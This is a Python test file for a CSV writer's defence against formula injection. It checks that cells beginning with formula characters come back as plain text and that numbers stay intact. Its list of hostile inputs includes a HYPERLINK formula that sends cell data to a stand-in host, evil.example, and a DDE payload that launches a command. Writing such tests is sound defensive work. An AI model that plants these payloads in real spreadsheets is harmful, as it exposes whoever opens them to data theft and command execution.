"""No cell of a table is a formula, and every cell can be read back as it was (S-6)."""

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.house.sources import PACKAGE

from sevenpanel.kernel import spreadsheets

BEGINS = "=+-@\t\r\n\0＝＋－＠"
HOSTILE = (
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", "＝1+1", "－1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"Click")', "=cmd|' /C calc'!A0", '"=1+1"', '","=1+1', "a\r\n=1+1",
    "\u202e=1+1", "-\u00b2", "+491701234567", "-", "--1", "-1-1", "1,234", "'=1+1", "\u2066=1+1\u2069",
)  # fmt: skip


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix(spreadsheets.BOM), newline="")))


@pytest.mark.parametrize("value", HOSTILE)
def test_s6_what_looks_like_a_formula_is_a_text_and_stays_in_its_cell(value: str) -> None:
    table = "".join(spreadsheets.lines(["a", "b", "c"], [["left", value, "right"]]))

    _head, (left, cell, right) = read_back(table)

    assert (left, right) == ("left", "right")
    assert cell.removeprefix("'") == value.removeprefix("'")
    assert not cell.startswith(tuple(BEGINS))


@pytest.mark.parametrize("value", [0, -1, "-0.5", Decimal("-12.340000"), 10**18, "12"])
def test_s6_numbers_stay_numbers(value: object) -> None:
    assert spreadsheets.cell(value) == str(value)


@given(st.text() | st.from_regex(f"[{BEGINS}].*"))
def test_s6_any_text_comes_back_whole_and_computes_nothing(value: str) -> None:
    cell = spreadsheets.cell(value)

    assert cell in (value, f"'{value}")
    assert not cell.startswith(tuple(BEGINS)) or cell.removeprefix("-").replace(".", "", 1).isdecimal()


def test_s6_every_table_is_written_by_the_one_writer() -> None:
    found = {
        str(path.relative_to(PACKAGE))
        for path in PACKAGE.rglob("*.py")
        if "csv.writer" in path.read_text() or "csv.DictWriter" in path.read_text()
    }

    assert found == {"kernel/spreadsheets.py"}
